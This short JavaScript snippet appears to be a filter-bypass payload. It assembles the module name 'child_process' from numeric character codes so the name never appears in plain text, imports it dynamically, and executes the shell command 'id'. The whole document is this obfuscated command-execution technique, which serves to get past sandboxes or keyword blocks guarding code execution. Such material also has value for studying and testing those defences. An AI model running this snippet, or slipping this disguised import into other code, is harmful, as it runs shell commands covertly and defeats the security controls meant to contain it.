const c = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115];
const m = await import(String.fromCharCode(...c));
m.exec('id');
